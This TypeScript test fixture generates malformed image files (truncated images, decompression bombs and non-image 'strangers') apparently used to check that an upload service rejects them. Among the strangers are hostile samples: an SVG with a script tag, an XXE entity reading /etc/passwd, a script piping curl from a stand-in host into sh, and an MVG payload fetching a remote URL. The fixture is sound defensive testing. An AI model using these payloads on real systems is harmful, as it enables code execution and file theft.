import { photo } from '../factories.js';
import {
  blackPng,
  chunkOffsets,
  gif,
  jpegSegmentOffsets,
  patched,
  pngChunkOffsets,
  uint16,
  uint32,
  type MalformedImage,
} from './build.js';
import { lyingPngs, lyingJpegs, lyingWebps, lyingGifs, lyingAvifs } from './lying.js';

const FORMATS = ['jpeg', 'png', 'webp', 'gif', 'avif'] as const;
type Format = (typeof FORMATS)[number];

/** Every malformed file, generated anew. */
export async function malformedImages(): Promise<MalformedImage[]> {
  const sound = new Map<Format, Buffer>();
  for (const format of FORMATS) sound.set(format, await photo(64, 48, format));
  const of = (format: Format): Buffer => sound.get(format) ?? Buffer.alloc(0);
  return [
    ...FORMATS.flatMap((format) => truncated(format, of(format))),
    ...lyingPngs(of('png')),
    ...lyingJpegs(of('jpeg')),
    ...lyingWebps(of('webp'), await photo(64, 48, 'webp')),
    ...lyingGifs(of('gif')),
    ...lyingAvifs(of('avif')),
    ...bombs(of('jpeg'), of('webp'), of('avif')),
    ...strangers(),
  ];
}

/** Truncated where a part begins, within its header and after it, and where broken transfers usually end. */
function truncated(format: Format, bytes: Buffer): MalformedImage[] {
  const offsets = {
    jpeg: jpegSegmentOffsets,
    png: pngChunkOffsets,
    webp: riff,
    avif: boxes,
    gif: () => [6, 13, 781],
  }[format](bytes);
  const places = offsets.flatMap((at) => [at, at + 2, at + 4, at + 8, at + 9]);
  const usual = [0, 1, 3, 11, 12, 20, bytes.length >> 1, bytes.length - 12, bytes.length - 1];
  return [...new Set([...usual, ...places])]
    .filter((at) => at < bytes.length)
    .map((at) => ({
      name: `${format} cut off after ${at} bytes`,
      bytes: bytes.subarray(0, at),
      ...(at < 12 && { status: 415 }),
    }));
}

const riff = (bytes: Buffer) => chunkOffsets(bytes, 'webp');
const boxes = (bytes: Buffer) => chunkOffsets(bytes, 'avif');

/** Decompression bombs: small files that would fill the memory. They are refused by their headers, before decoding. */
function bombs(jpeg: Buffer, webp: Buffer, avif: Buffer): MalformedImage[] {
  const frame = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
  const side = Buffer.concat([uint32(30_000), uint32(30_000)]);
  return [
    { name: 'a png of 900 megapixels', bytes: blackPng({ width: 30_000, height: 30_000, colour: 0 }, 9) },
    {
      name: 'a png of 51 megapixels, all there',
      bytes: blackPng({ width: 10_200, height: 5_000, colour: 0 }),
    },
    {
      name: 'a jpeg of 4 gigapixels',
      bytes: patched(jpeg, frame + 5, Buffer.concat([uint16(65_000), uint16(65_000)])),
    },
    { name: 'a webp of 268 megapixels', bytes: patched(webp, 26, [0xff, 0x3f, 0xff, 0x3f]) },
    { name: 'an avif of 900 megapixels', bytes: patched(avif, avif.indexOf('ispe') + 8, side) },
    {
      name: 'an avif of 17 megapixels',
      bytes: patched(avif, avif.indexOf('ispe') + 8, Buffer.concat([uint32(5_000), uint32(3_400)])),
    },
    { name: 'a gif of 300 frames and 108 megapixels', bytes: gif({ width: 600, height: 600, frames: 300 }) },
  ].map((bomb) => ({ ...bomb, status: 413 }));
}

/** Files that are no picture of an accepted format, whatever their name is. */
function strangers(): MalformedImage[] {
  return Object.entries({
    'an SVG with a program': '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    'an SVG after a declaration':
      '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
    'an SVG after a mark': '\ufeff   <svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>',
    'a web page': '<!doctype html><script>alert(document.domain)</script>',
    'a PDF': '%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj',
    'a TIFF': 'II*\0\x08\0\0\0\0\0\0\0\0\0\0\0',
    'a BMP': 'BM\x3a\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0',
    'an icon': '\0\0\x01\0\x01\0\x01\x01\0\0\x01\0\x20\0',
    'a HEIC': '\0\0\0\x18ftypheic\0\0\0\0mif1heic',
    'a film': '\0\0\0\x18ftypisom\0\0\x02\0isomiso2mp41',
    'a WAV': 'RIFF\x24\0\0\0WAVEfmt \x10\0\0\0',
    'a zip': 'PK\x03\x04\x14\0\0\0\x08\0\0\0\0\0\0\0\0\0',
    'a program': '\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0',
    'a script': '#!/bin/sh\ncurl https://foreign.example | sh\n',
    'a picture described in words':
      'push graphic-context\nviewbox 0 0 9 9\nimage over 0,0 0,0 "url(https://foreign.example)"\n',
    'a JPEG XL': '\xff\x0a\xfa\x1f\x01\x90\x08\x10\x10\x08\x06\x01\0\x98',
    zeros: '\0'.repeat(4_096),
  }).map(([name, text]) => ({ name, bytes: Buffer.from(text, 'latin1'), status: 415 }));
}
